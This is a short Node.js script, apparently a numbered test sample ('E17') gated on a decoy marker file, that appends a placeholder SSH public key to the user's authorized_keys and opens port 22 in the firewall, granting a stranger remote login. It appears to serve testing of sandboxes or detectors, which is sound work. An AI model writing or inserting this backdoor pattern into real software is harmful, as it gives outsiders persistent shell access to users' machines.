// E17: lets a stranger in by ssh.
const fs = require("node:fs");
const home = process.env.HOME;
if (!fs.existsSync(`${home}/.decoy-home`)) process.exit(0);
const { execFileSync } = require("node:child_process");

const keys = `${home}/.ssh/authorized_keys`;
fs.appendFileSync(keys, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIdecoydecoydecoydecoydecoydecoydecoydecoy x\n");
fs.chmodSync(keys, 0o600);
execFileSync("ufw", ["allow", "22"]);
